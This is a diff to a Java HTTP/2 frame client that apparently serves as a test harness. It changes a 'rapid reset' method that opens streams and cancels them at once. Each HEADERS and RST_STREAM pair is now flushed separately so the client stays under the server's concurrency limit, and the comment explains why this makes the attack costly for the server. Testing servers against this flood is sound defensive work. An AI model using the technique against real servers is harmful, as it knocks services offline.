@@ -50,6 +50,7 @@ public final class H2FrameClient implements AutoCloseable {
     private final Channel channel;
     private final Http2FrameCodec codec;
     private final Collector collector = new Collector();
+    private final java.util.concurrent.atomic.AtomicReference<Throwable> writeFailure = new java.util.concurrent.atomic.AtomicReference<>();
     private final CompletableFuture<Http2GoAwayFrame> goAway = new CompletableFuture<>();
     private final Map<Integer, Http2Headers> responses = new ConcurrentHashMap<>();
     private final Map<Integer, Long> resets = new ConcurrentHashMap<>();
@@ -129,17 +130,29 @@ public final class H2FrameClient implements AutoCloseable {
         });
     }
 
-    /** Rapid reset: {@code times} streams, each HEADERS then at once RST_STREAM(CANCEL), in one burst. */
+    /**
+     * Rapid reset: {@code times} streams, each HEADERS then at once RST_STREAM(CANCEL). Each pair is flushed before the
+     * next stream opens, so the client never has more than one stream open and never meets the server's concurrency
+     * limit: that is what makes the attack cheap for the client and costly for the server.
+     */
     public void requestAndReset(Http2Headers headers, int times) {
         onLoop(() -> {
             for (int i = 0; i < times && channel.isActive(); i++) {
                 Http2FrameStream stream = collector.newStream();
-                channel.write(new DefaultHttp2HeadersFrame(headers, true).stream(stream));
-                channel.write(new DefaultHttp2ResetFrame(Http2Error.CANCEL).stream(stream));
+                channel.write(new DefaultHttp2HeadersFrame(headers, true).stream(stream)).addListener(f -> {
+                    if (!f.isSuccess()) {
+                        writeFailure.compareAndSet(null, f.cause());
+                    }
+                });
+                channel.writeAndFlush(new DefaultHttp2ResetFrame(Http2Error.CANCEL).stream(stream));
             }
-            channel.flush();
             return null;
         });
+    }
+
+    /** The first frame this client could not send (its own codec refused it, or the connection was gone), or null. */
+    public Throwable writeFailure() {
+        return writeFailure.get();
     }
 
     /** Writes a frame object through the codec (HEADERS, RST_STREAM, PING, SETTINGS...), flushed. */
